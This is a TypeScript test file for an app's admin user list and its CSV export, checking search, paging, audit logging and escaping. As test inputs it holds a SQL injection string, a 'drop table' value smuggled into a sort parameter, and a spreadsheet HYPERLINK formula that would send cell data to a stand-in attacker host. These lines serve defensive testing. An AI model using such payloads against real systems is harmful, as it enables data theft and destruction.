import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import * as z from 'zod/mini';
import { newId } from '#server/lib/ids.ts';
import {
  AdminUser,
  countAdminUsers,
  exportAdminUsers,
  listAdminUsers,
} from '#shared/moderation/admin-users.ts';
import { listAudit } from '#shared/base/audit.ts';
import { bootSegue, type Client, type Harness } from '#tests/harness.ts';

let segue: Harness;
let alice: Client & { id: string };

beforeAll(async () => {
  segue = await bootSegue();
  alice = await segue.member('alice');
  await segue.member('bob');
});
afterAll(() => segue.close());

describe('the list', () => {
  test('is searched by the beginning of a name or an address, filtered, sorted and paged', async () => {
    const names = (users: AdminUser[]) => users.map((user) => user.username);
    expect(names(await alice.ok(listAdminUsers, { query: { sort: 'username', order: 'asc' } }))).toEqual([
      'alice',
      'bob',
    ]);
    expect(names(await alice.ok(listAdminUsers, { query: { search: 'BO' } }))).toEqual(['bob']);
    expect(names(await alice.ok(listAdminUsers, { query: { search: 'alice@seg' } }))).toEqual(['alice']);
    expect(names(await alice.ok(listAdminUsers, { query: { role: 'admin' } }))).toEqual(['alice']);
    const second = { sort: 'username', order: 'asc', limit: 1, page: 2 } as const;
    expect(names(await alice.ok(listAdminUsers, { query: second }))).toEqual(['bob']);
    expect(await alice.ok(countAdminUsers, { query: { status: 'active' } })).toEqual({ total: 2 });
  });

  test('takes % and _ and quotes as the letters they are', async () => {
    for (const search of ['%', '_', "' or 1=1 --", '"']) {
      expect(await alice.ok(listAdminUsers, { query: { search } })).toEqual([]);
    }
  });

  test('refuses a sort or a filter that the contract does not name', async () => {
    for (const query of [
      'sort=password_hash',
      'sort=username;drop table users',
      'order=sideways',
      'role=root',
      'limit=1000000',
    ]) {
      expect((await alice.fetch(`/api/v1/admin/users?${query}`)).status).toBe(422);
    }
  });
});

describe('the list as a file', () => {
  const many = 1201;

  const csv = async (query = ''): Promise<string[]> => {
    const answer = await alice.fetch(exportAdminUsers.path + query);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toContain('attachment');
    return (await answer.text()).trimEnd().split('\r\n');
  };

  test('holds everyone, or whom the search leaves, and stands in the audit log', async () => {
    const [header, ...rows] = await csv();
    expect(header).toMatch(/^\u{feff}?id,username,email,role,status,/u);
    const { total } = await alice.ok(countAdminUsers);
    expect(rows).toHaveLength(total);
    expect((await csv('?search=bo')).slice(1)).toEqual([expect.stringContaining('bob@segue.test')]);
    expect((await alice.fetch(`${exportAdminUsers.path}?role=root`)).status).toBe(422);
    const [entry] = await alice.ok(listAudit, { query: { action: 'user.list_downloaded' } });
    expect(entry).toMatchObject({ actor: 'alice' });
  });

  test('never makes a spreadsheet calculate what somebody typed', async () => {
    const ivan = await segue.member('ivan');
    await segue.ctx.db
      .updateTable('users')
      .set({ block_reason: '=HYPERLINK("http://evil.example/?"&A1,"x")', email: '+cmd@segue.test' })
      .where('id', '=', ivan.id)
      .execute();
    const text = (await csv('?search=ivan')).join('\n');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(text).toContain(`,'+cmd@segue.test,`);
  });

  test('is cut into pieces, none lost between them', async () => {
    const now = segue.time.now;
    const rowsOf = Array.from({ length: many }, (_, n) => ({
      id: newId(now + n),
      username: `crowd${n}`,
      username_key: `crowd${n}`,
      email: `crowd${n}@segue.test`,
      email_key: `crowd${n}@segue.test`,
      password_hash: '-',
      role: 'user' as const,
      upload_limit_mb: 100,
      created_at: now,
    }));
    for (let from = 0; from < many; from += 400) {
      await segue.ctx.db
        .insertInto('users')
        .values(rowsOf.slice(from, from + 400))
        .execute();
    }
    const rows = (await csv('?search=crowd')).slice(1).map((row) => row.split(',')[1]);
    expect(rows).toEqual(rowsOf.map((row) => row.username));
  });

  test('and the list itself holds everyone where no page is asked for, in every order', async () => {
    const { total } = await alice.ok(countAdminUsers);
    const everyone = await alice.ok(listAdminUsers);
    expect(everyone).toHaveLength(total);
    expect(everyone.map(({ created_at }) => created_at)).toEqual(
      everyone
        .map(({ created_at }) => created_at)
        .toSorted()
        .toReversed(),
    );
    expect(z.array(AdminUser).safeParse(everyone).success).toBe(true);
    expect(await alice.ok(listAdminUsers, { query: { search: 'nobody at all' } })).toEqual([]);
    for (const sort of ['username', 'email', 'track_count'] as const) {
      const sorted = await alice.ok(listAdminUsers, { query: { sort, order: 'asc', search: 'crowd' } });
      expect(new Set(sorted.map(({ id }) => id)).size).toBe(many);
    }
    expect(await alice.ok(listAdminUsers, { query: { page: 1 } })).toHaveLength(50);
    expect(await alice.ok(listAdminUsers, { query: { limit: 7 } })).toHaveLength(7);
  });
});
